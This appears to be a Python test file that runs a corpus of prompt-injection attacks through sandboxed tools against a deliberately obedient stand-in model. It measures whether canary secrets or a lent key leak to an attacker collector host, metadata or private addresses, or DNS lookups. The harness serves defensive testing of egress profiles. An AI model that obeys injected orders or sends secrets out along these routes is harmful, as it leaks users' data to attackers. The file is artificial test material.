"""The trial: every attack through the real tools on a private internet, under one set of profiles; what left.

The same servers, the same model and the same attacks for each set. A canary has left when its bytes were read by a
server, or stood in a name that was looked up.
"""

import base64
import re
from collections import Counter
from collections.abc import AsyncIterator, Callable, Iterable, Mapping
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import anyio.abc
import pytest
from tests.fixtures.brokered import Glovebox, glovebox
from tests.fixtures.internet import METADATA, OTHER, PRIVATE, SITE, Cable, Internet, internet, ok, redirect
from tests.red_team.corpus import COLLECTOR, Attack, Family
from tests.red_team.obedient import Obedient

from glovebox_profiles.load.loader import SHIPPED

DOCS = "docs.example.org"


@dataclass(frozen=True, slots=True, kw_only=True)
class Profiles:
    """One set of profiles under trial."""

    name: str
    pages: str
    """Where the pages with attacks lie: an address its fetch_url may reach, or nothing would be read at all."""
    own: tuple[str, ...]
    """Profiles over the shipped ones."""
    named: frozenset[str]
    """Servers that its allow-lists name."""
    canaries: str = "plans/{}.md"
    """Where the file with the canary lies."""


KEY = "ghp_" + "r3dT3amKeyThatIsLentToOneHost0000000"
"""The key that programs and pages are lent and never have."""
_VARIABLE = "RED_TEAM_KEY"


def _shipped(tool: str, network: str = "", files: str = "", driver: str = "") -> str:
    """A shipped profile with another network, further keys of its files, and another driver."""
    text = (SHIPPED / f"{tool}.toml").read_text().partition("[[example]]")[0]
    if driver:
        text = re.sub(r"(?m)^isolation = .*$", f'isolation = ["{driver}"]', text)
    if files:
        text = text.replace("[files]\n", f"[files]\n{files}\n")
    if network:
        before, _, rest = text.partition("[network]\n")
        text = f"{before}[network]\n{network}\n{rest[rest.index('[limits]') :]}"
    return text


def _lending(host: str) -> tuple[str, ...]:
    """Profiles that lend a key for one host, with programs' TLS inspected, and show the files that hold secrets."""
    allow = f'allow = [{{ host = "{host}", methods = ["GET", "HEAD", "POST"] }}]\n'
    key = f'name = "key"\nhost = "{host}"\nmethods = ["GET", "POST"]\npaths = ["/*"]\nheader = "Authorization"'
    network = (
        f'mode = "egress"\nmax_connections = 8\n{allow}%s[[network.credential]]\n{key}\nsource = "env:{_VARIABLE}"\n'
    )
    reveal = 'reveal = [{ path = "plans", reason = "The trial\'s." }]'
    return (
        _shipped("fetch_url", network % "max_redirects = 5\n"),
        _shipped("run_python", network % 'tls = "inspect"\n', reveal),
        *(_shipped(tool, files=reveal) for tool in ("read_workspace_file", "search_workspace", "list_workspace_files")),
    )


def _reaching(*hosts: str) -> tuple[str, str]:
    """Profiles of both tools that can reach something, for these hosts: fetch_url in any way, programs by tunnel."""
    any_way = ", ".join(
        f'{{ host = "{host}", schemes = ["https", "http"], methods = ["GET", "HEAD"] }}' for host in hosts
    )
    tunnels = ", ".join(f'{{ host = "{host}", methods = ["CONNECT"] }}' for host in hosts)
    return (
        _shipped("fetch_url", f'mode = "egress"\nmax_redirects = 5\nmax_connections = 8\nallow = [{any_way}]\n'),
        _shipped("run_python", f'mode = "egress"\nmax_connections = 8\nallow = [{tunnels}]\n'),
    )


TOOLS = ("fetch_url", "list_workspace_files", "read_workspace_file", "run_python", "search_workspace")
SETS = (
    Profiles(name="shipped", pages="https://pypi.org/project", own=(), named=frozenset({"pages"})),
    Profiles(
        name="shipped, gVisor",
        pages="https://pypi.org/project",
        own=tuple(_shipped(tool, driver="gvisor") for tool in TOOLS),
        named=frozenset({"pages"}),
    ),
    Profiles(name="one host", pages=f"https://{DOCS}/project", own=_reaching(DOCS), named=frozenset({"pages"})),
    Profiles(
        name="lent key",
        pages=f"https://{DOCS}/project",
        own=_lending(DOCS),
        named=frozenset({"pages"}),
        canaries="plans/{}.env",
    ),
    Profiles(
        name="control",
        pages=f"https://{DOCS}/project",
        own=_reaching(DOCS, COLLECTOR, f"*.{COLLECTOR}"),
        named=frozenset({"pages", "collector", "look-up"}),
    ),
)
"""The profiles that are shipped, the same in gVisor; one host allowed to the model and to programs; that host with a
key lent for it, TLS inspected and the files of secrets shown; and the attacker's host allowed too."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Row:
    """What came of one attack under one set of profiles."""

    attack: str
    tool: str
    """Which brought it to the model."""
    obeyed: bool
    """Whether the model saw an order and carried it out."""
    calls: int
    refused: int
    """Calls that were denied before anything started."""
    left_to: tuple[str, ...]
    """Who got the canary: "pages" (the allowed host), "collector", "private", "metadata", "look-up"; "key" where the
    lent key was in a result, a record of the call, or at anybody else."""


@dataclass
class Trial:
    """One server and its internet, attack by attack."""

    box: Glovebox
    net: Internet
    profiles: Profiles
    workspace: Path
    received: list[tuple[str, bytes]] = field(default_factory=list)
    """Server and bytes of each request."""
    lent: int = 0
    """Requests that came with the key."""
    _current: Attack | None = None

    @property
    def pages(self) -> str:
        """Where the pages with attacks lie."""
        return self.profiles.pages

    async def listen(self) -> None:
        """Start every server, and let their names be found."""
        host = self.pages.removeprefix("https://").partition("/")[0]
        self.net.zone |= {host: [[SITE]], COLLECTOR: [[OTHER]]}
        await self.net.serve(SITE, 443, self._server("pages", self._page), name=host)
        await self.net.serve(OTHER, 443, self._server("collector", _thanks), name=COLLECTOR)
        for label, address in (("collector", OTHER), ("private", PRIVATE), ("metadata", METADATA)):
            await self.net.serve(address, 80, self._server(label, _thanks))

    def _server(self, label: str, answer: Callable[[str], bytes]) -> Callable[[anyio.abc.ByteStream], Any]:
        async def handler(stream: anyio.abc.ByteStream) -> None:
            data = b""
            at = len(self.received)
            self.received.append((label, data))
            while not _whole(data):
                data += await stream.receive()
                self.received[at] = (label, data)
            said = answer(data.split(b" ")[1].decode())
            # Whoever got the key says it back, in the answer's head and in its body.
            if KEY.encode() in data:
                self.lent += 1
                said = said.replace(b"thanks", b"thanks for " + KEY.encode()).replace(
                    b" 200 OK\r\n", b" 200 OK\r\nX-Key: %b\r\n" % KEY.encode()
                )
            await stream.send(said)

        return handler

    def _page(self, path: str) -> bytes:
        """The attack of now, a way out by redirect, or a page that says thanks."""
        attack = self._current
        assert attack is not None
        folder, _, number = path.partition("/attack/")[2].partition("/")
        if folder == attack.slug:
            if attack.redirect:
                return redirect(attack.filled(attack.redirect, self.pages))
            headers = [attack.filled(each, self.pages) for each in attack.headers]
            return ok(attack.content(self.pages)[int(number)], f"Content-Type: {attack.media_type}", *headers)
        if "/out/" in path:
            return redirect(f"https://{COLLECTOR}/out{path[path.index('?') :]}")
        return _thanks(path)

    async def tried(self, attack: Attack) -> Row:
        """Let the model read one attack and obey it."""
        attack = replace(attack, lies_in=self.profiles.canaries)
        self._current = attack
        received, lookups = len(self.received), len(self.net.lookups)
        model = Obedient(call=self.box.call)
        await _shown(attack, model, self.pages)
        left = {label for label, data in self.received[received:] if _holds(data, attack.canary)}
        if model.saw(KEY) or any(label != "pages" and KEY.encode() in data for label, data in self.received[received:]):
            left.add("key")
        left |= {"look-up" for name in self.net.lookups[lookups:] if attack.canary in name}
        return Row(
            attack=attack.id,
            tool="run_python" if attack.read_by == "artifact" else attack.read_by,
            obeyed=bool(model.obeyed),
            calls=len(model.tools),
            refused=model.refused,
            left_to=tuple(sorted(left)),
        )


@asynccontextmanager
async def opened(wires: Cable, directory: Path, profiles: Profiles, attacks: Iterable[Attack]) -> AsyncIterator[Trial]:
    """A whole server under these profiles, a workspace with every file and canary, and the servers around."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(_VARIABLE, KEY)
        async with internet(wires) as net, glovebox(net, directory, *profiles.own) as box:
            workspace = directory / "workspace"
            for attack in attacks:
                _planted(workspace, replace(attack, lies_in=profiles.canaries), profiles.pages)
            trial = Trial(box=box, net=net, profiles=profiles, workspace=workspace)
            await trial.listen()
            yield trial


async def run(wires: Cable, directory: Path, profiles: Profiles, families: Iterable[Family]) -> list[Row]:
    """Try every attack of these families under one set of profiles."""
    attacks = [attack for family in families for attack in family.attacks]
    async with opened(wires, directory, profiles, attacks) as trial:
        rows = [await trial.tried(attack) for attack in attacks]
        assert_no_other_server(trial.net, profiles)
        return rows


def assert_no_other_server(net: Internet, profiles: Profiles) -> None:
    """Nothing but what the profiles name was connected to or looked up, with or without a canary."""
    reached = {f"{SITE}:443"} | ({f"{OTHER}:443", f"{OTHER}:80"} if "collector" in profiles.named else set())
    assert set(net.connections) <= reached
    host = profiles.pages.removeprefix("https://").partition("/")[0]
    if "look-up" not in profiles.named:
        assert set(net.lookups) <= {host}


def _planted(workspace: Path, attack: Attack, pages: str) -> None:
    """Write the file with the canary, and the attack where it is one."""
    secret = workspace / attack.secret
    secret.parent.mkdir(exist_ok=True)
    secret.write_text(attack.canary + "\n")
    if attack.read_by in ("fetch_url", "artifact"):
        return
    for number, data in enumerate(attack.content(pages)):
        path = workspace / _path(attack, number)
        path.parent.mkdir(parents=True, exist_ok=True)
        if attack.read_by == "list_workspace_files":
            name = data.decode()
            # A name holds no slash; a model reads one that looks like it (U+2215) as one.
            (path.parent / name.replace("/", "\u2215")).write_text("")
        else:
            path.write_bytes(data)


def _path(attack: Attack, number: int) -> str:
    return f"inbox/{attack.slug}/{number}.{attack.suffix}"


async def _shown(attack: Attack, model: Obedient, pages: str) -> None:
    """The call, or calls, by which a model comes to read the attack."""
    for number, data in enumerate(attack.content(pages)):
        path = _path(attack, number)
        arguments: Mapping[str, Any]
        match attack.read_by:
            case "fetch_url":
                arguments = {"url": f"{pages}/attack/{attack.slug}/{number}"}
            case "read_workspace_file":
                arguments = {"path": path}
            case "search_workspace":
                arguments = {"pattern": "ticket", "path": path, "context": 5}
            case "list_workspace_files":
                arguments = {"pattern": f"inbox/{attack.slug}/**"}
            case "run_python":
                arguments = {"code": EXTRACT.format(path=f"/workspace/{path}")}
            case _:
                arguments = await _artifact(model, data, attack.suffix)
        tool = "run_python" if attack.read_by == "artifact" else attack.read_by
        await model.read(await model.use(tool, arguments))


async def _artifact(model: Obedient, data: bytes, suffix: str) -> Mapping[str, Any]:
    """Have a program write a file that comes out, and return the call that reads it."""
    kept = base64.b64encode(data).decode()
    code = f"import base64\nopen('/output/found.{suffix}', 'wb').write(base64.b64decode({kept!r}))\n"
    called = await model.use("run_python", {"code": code})
    assert called is not None
    files = called.fields["artifacts"]
    return {"code": EXTRACT.format(path=f"/input/found.{suffix}"), "inputs": [files[0]["uri"]]}


#: What a model's own program makes of a file: its text, and that of what is packed in it.
EXTRACT = r"""
import io, re, zipfile, zlib
data = open({path!r}, 'rb').read()
parts = [data]
if zipfile.is_zipfile(io.BytesIO(data)):
    archive = zipfile.ZipFile(io.BytesIO(data))
    parts = [archive.comment] + [name.encode() for name in archive.namelist()]
    parts += [archive.read(name) for name in archive.namelist()]
for found in re.finditer(rb'x\x9c', data):
    try:
        parts.append(zlib.decompressobj().decompress(data[found.start():]))
    except zlib.error:
        pass
for part in parts:
    text = part.decode('utf-16' if part[:2] in (b'\xff\xfe', b'\xfe\xff') else 'utf-8', 'replace')
    print(re.sub(r'\\([()\\])', r'\1', text) if data[:4] == b'%PDF' else text)
"""


def _holds(data: bytes, canary: str) -> bool:
    """Whether a request holds it, as it is or in base64 or hexadecimal."""
    secret = canary.encode()
    forms = [secret, secret.hex().encode(), base64.b64encode(secret).rstrip(b"=")[:-1]]
    return any(form in data for form in forms)


def _whole(data: bytes) -> bool:
    head, end, body = data.partition(b"\r\n\r\n")
    if not end:
        return False
    lengths = [
        int(line.partition(b":")[2]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")
    ]
    return len(body) >= sum(lengths)


def _thanks(_path: str) -> bytes:
    return ok(b"thanks", "Content-Type: text/plain")


def totals(rows: Iterable[Row]) -> Counter[str]:
    """How often canaries left, by who got them."""
    return Counter(label for row in rows for label in row.left_to)
